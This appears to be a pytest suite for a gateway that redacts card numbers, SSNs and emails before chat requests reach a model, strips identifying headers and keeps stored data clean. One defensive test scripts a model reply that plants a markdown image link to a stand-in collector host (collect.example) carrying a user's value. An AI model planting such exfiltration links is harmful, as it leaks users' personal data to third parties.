"""The whole gateway over loopback, with the real client: nothing personal reaches the model."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.gateway.serving import Serving
from tests.simulators.completions import Choice, ToolCall
from tests.simulators.replies import Asked, Cuts, answer, computed, echo, every_byte
from tests.simulators.upstream import Upstream

CARD = "4111 1111 1111 1111"
SSN = "078-05-1120"
MAIL = "jane.doe@example.com"
TEXT = f"My card {CARD}, ssn {SSN}, mail {MAIL}."


pytestmark = pytest.mark.usefixtures("fresh")


def ask(gateway: Serving, messages: Any, *, stream: bool) -> str:
    completions = gateway.client().chat.completions
    if not stream:
        made = completions.create(model="m", messages=messages)
        return str(made.choices[0].message.content)
    chunks = completions.create(model="m", messages=messages, stream=True)
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)


@pytest.mark.parametrize("stream", [False, True])
def test_nothing_personal_reaches_the_model_over_ten_turns(
    gateway: Serving, upstream: Upstream, stream: bool
) -> None:
    messages: list[dict[str, Any]] = []
    for turn in range(10):
        said = f"Turn {turn}: {TEXT}" if turn % 3 == 0 else f"Turn {turn}: about {CARD} again"
        messages.append({"role": "user", "content": said})
        back = ask(gateway, messages, stream=stream)
        assert back == said
        messages.append({"role": "assistant", "content": back})
    assert len(upstream.requests) == 10
    for value in (CARD, SSN, MAIL, "4111", "1120", "jane.doe"):
        assert not upstream.saw(value)
    first = [request.json()["messages"][0]["content"] for request in upstream.requests]
    assert len(set(first)) == 1, "a value keeps its surrogate in every turn"


def test_turns_join_one_conversation_and_only_new_messages_are_stored(
    gateway: Serving, upstream: Upstream
) -> None:
    subject = "joins"
    gateway.opt_in(subject)
    messages: list[dict[str, Any]] = [{"role": "system", "content": "You help."}]
    ids = set()
    for turn in range(4):
        messages.append({"role": "user", "content": f"turn {turn} of {MAIL}"})
        answered = gateway.call(
            "POST",
            "/v1/chat/completions",
            {"model": "m", "messages": messages},
            headers={"x-discreet-subject": subject},
        )
        ids.add(answered.headers["x-discreet-conversation"])
        messages.append(answered.json()["choices"][0]["message"])
    assert len(ids) == 1
    conversation = next(each for each in gateway.stored() if each.conversation_id in ids)
    assert [message.role for message in conversation.messages] == ["system"] + [
        "user",
        "assistant",
    ] * 4
    assert MAIL not in "".join(message.text for message in conversation.messages)


def test_headers_that_end_at_the_gateway(gateway: Serving, upstream: Upstream) -> None:
    body = {"model": "m", "messages": [{"role": "user", "content": "hello"}]}
    sent = {
        "x-discreet-subject": "visitor-17", "cookie": "sid=1", "x-forwarded-for": "192.0.2.7",
        "x-real-ip": "192.0.2.7", "forwarded": "for=192.0.2.7", "te": "trailers",
        "proxy-authorization": "x", "user-agent": "agent-canary", "referer": "http://referer.example/",
        "x-custom": "custom-canary", "accept-language": "xx", "true-client-ip": "192.0.2.7",
    }  # fmt: skip
    assert (
        gateway.call("POST", "/v1/chat/completions?q=query-canary", body, headers=sent).status
        == 200
    )
    names = {name.lower() for name, _ in upstream.requests[-1].headers}
    assert names == {
        b"host",
        b"content-type",
        b"content-length",
        b"authorization",
        b"accept",
        b"accept-encoding",
    }
    assert upstream.requests[-1].header("authorization") == b"Bearer upstream-secret"
    for canary in ("canary", "192.0.2.7", "referer", gateway.keys["chat"]):
        assert not upstream.saw(canary)


def test_untouched_bytes_pass_as_they_came(gateway: Serving, upstream: Upstream) -> None:
    body = (
        b'{ "zeta" : 1.50,\n "model":"m", '
        b'"messages":[{"role":"user","content":"h\\u00e9llo"}] , "n":1}'
    )
    sent = {"x-discreet-subject": "visitor-17"}
    assert gateway.call("POST", "/v1/chat/completions", body, headers=sent).status == 200
    assert upstream.requests[-1].body == body


def test_response_headers_tell_what_was_done(gateway: Serving) -> None:
    headers = gateway.chat(TEXT).headers
    assert headers["x-discreet-redactions"] == "CREDIT_CARD=1,EMAIL_ADDRESS=1,US_SSN=1"
    assert headers["x-discreet-restored"] == "3"
    assert headers["x-discreet-retention-class"] == "conversation"
    assert headers["x-discreet-recipient"] == "model-host"
    assert headers["x-discreet-policy"].startswith("default@")
    assert headers["x-discreet-mode"] == "enforce"


def test_a_stream_ends_with_a_comment_of_the_same_facts(gateway: Serving) -> None:
    answered = gateway.chat(TEXT, stream=True)
    assert answered.headers["content-type"].startswith("text/event-stream")
    last = [line for line in answered.body.decode().splitlines() if line][-1]
    facts = json.loads(last.removeprefix(": discreet "))
    assert facts["restored"] == 3
    assert facts["redactions"] == "CREDIT_CARD=1,EMAIL_ADDRESS=1,US_SSN=1"
    assert answered.body.count(b"data: [DONE]") == 1


@pytest.mark.parametrize("stream", [False, True])
def test_a_value_that_only_context_gave_away_is_replaced_everywhere(
    gateway: Serving, upstream: Upstream, stream: bool
) -> None:
    messages = [
        {"role": "user", "content": "here you go: 536-22-1234"},
        {"role": "assistant", "content": "Thanks."},
        {"role": "user", "content": "is 536221234 on file?"},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": "call_1", "type": "function", "function": {
                "name": "find", "arguments": '{"q": 536221234, "536221234": true}'}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": '{"id": "536221234"}'},
    ]  # fmt: skip
    back = ask(gateway, messages, stream=stream)
    assert not upstream.saw("536221234")
    assert not upstream.saw("536-22-1234")
    assert "536221234" in back
    sent = upstream.requests[-1].json()["messages"][3]["tool_calls"][0]["function"]["arguments"]
    assert json.loads(sent)["q"].startswith("[US_SSN_")


def test_a_planted_link_gets_no_value(gateway: Serving, upstream: Upstream) -> None:
    def link(asked: Asked) -> tuple[Choice, ...]:
        surrogate = asked.last_text().split("mail ")[1].rstrip(".")
        said = f"![x](https://collect.example/?d={surrogate}) for {surrogate} ok"
        return (Choice(content=said),)

    for stream in (False, True):
        upstream.script(computed(link))
        back = ask(gateway, [{"role": "user", "content": f"mail {MAIL}."}], stream=stream)
        assert back.startswith("![x](https://collect.example/?d=[EMAIL_ADDRESS_")
        assert back.endswith(f" for {MAIL} ok")


def test_a_card_that_the_model_made_up_is_masked_toward_the_user_and_in_the_store(
    gateway: Serving, upstream: Upstream
) -> None:
    for stream in (False, True):
        upstream.script(answer("Use 5555 5555 5555 4444 then."))
        assert (
            ask(gateway, [{"role": "user", "content": "hi"}], stream=stream)
            == "Use **** **** **** 4444 then."
        )
    assert (
        b"5555 4444"
        not in "".join(
            message.text for each in gateway.stored() for message in each.messages
        ).encode()
    )


def test_tool_arguments_are_not_restored_for_a_tool_that_policy_does_not_name(
    gateway: Serving, upstream: Upstream
) -> None:
    def call(asked: Asked) -> tuple[Choice, ...]:
        surrogate = asked.last_text().split("mail ")[1].rstrip(".")
        arguments = json.dumps({"to": surrogate})
        return (Choice(tool_calls=(ToolCall(name="send_mail", arguments=arguments),)),)

    upstream.script(computed(call))
    made = gateway.client().chat.completions.create(
        model="m", messages=[{"role": "user", "content": f"mail {MAIL}."}]
    )
    calls = made.choices[0].message.tool_calls
    assert calls is not None
    assert MAIL not in calls[0].function.arguments  # type: ignore[union-attr]


def test_a_stream_cut_at_every_byte_gives_the_same(gateway: Serving, upstream: Upstream) -> None:
    upstream.script(echo(cuts=Cuts(plan=every_byte)))
    said = f"日本語 🙂 {TEXT}"
    assert ask(gateway, [{"role": "user", "content": said}], stream=True) == said


def test_models_come_from_the_configuration(gateway: Serving, upstream: Upstream) -> None:
    listed = gateway.call("GET", "/v1/models")
    assert [model["id"] for model in listed.json()["data"]] == ["*"]
    assert gateway.call("GET", "/v1/models", key=None).status == 401
    assert upstream.requests == []


def test_health_and_unknown_routes(gateway: Serving, upstream: Upstream) -> None:
    assert gateway.call("GET", "/healthz", key=None).json() == {"status": "alive"}
    assert gateway.call("GET", "/readyz", key=None).status == 200
    for method, path in (
        ("POST", "/v1/audio/speech"), ("GET", "/v1/chat/completions"), ("POST", "/v1/"),
        ("POST", "/v1/chat/completions/"), ("DELETE", "/v1/files/x"), ("POST", "/nothing"),
        ("GET", "/privacy/nothing"), ("GET", "/docs"),
    ):  # fmt: skip
        refused = gateway.call(method, path, {"secret": CARD})
        assert refused.status == 404, path
        assert refused.code == "unknown_route"
        assert CARD.encode() not in refused.body
    refused = gateway.call("GET", "/analyze")
    assert (refused.status, refused.code) == (405, "method_not_allowed")
    assert refused.json()["error"]["message"] == "This path is for other methods."
    assert upstream.requests == []


def test_no_plain_value_in_any_file(gateway: Serving) -> None:
    gateway.chat(TEXT)
    gateway.chat(TEXT, stream=True)
    files = gateway.files()
    for value in (CARD, SSN, MAIL, "visitor-17", "4111111111111111", "Turn 1"):
        assert value.encode() not in files, value


def test_conversations_of_two_subjects_share_no_surrogate(
    gateway: Serving, upstream: Upstream
) -> None:
    gateway.opt_in("a-person")
    gateway.opt_in("b-person")
    for subject in ("a-person", "b-person"):
        gateway.chat(f"mail {MAIL}.", subject=subject)
    first, second = (request.json()["messages"][0]["content"] for request in upstream.requests)
    assert first != second


def test_a_conversation_id_is_looked_up_within_its_subject(
    gateway: Serving, upstream: Upstream
) -> None:
    gateway.opt_in("owner")
    gateway.opt_in("stranger")
    body = {"model": "m", "messages": [{"role": "user", "content": f"mail {MAIL}."}]}
    for subject in ("owner", "stranger", "owner"):
        headers = {"x-discreet-subject": subject, "x-discreet-conversation": "shared-id"}
        answered = gateway.call("POST", "/v1/chat/completions", body, headers=headers)
        assert answered.headers["x-discreet-conversation"] == "shared-id"
    first, second, third = (
        request.json()["messages"][0]["content"] for request in upstream.requests
    )
    assert first == third
    assert first != second
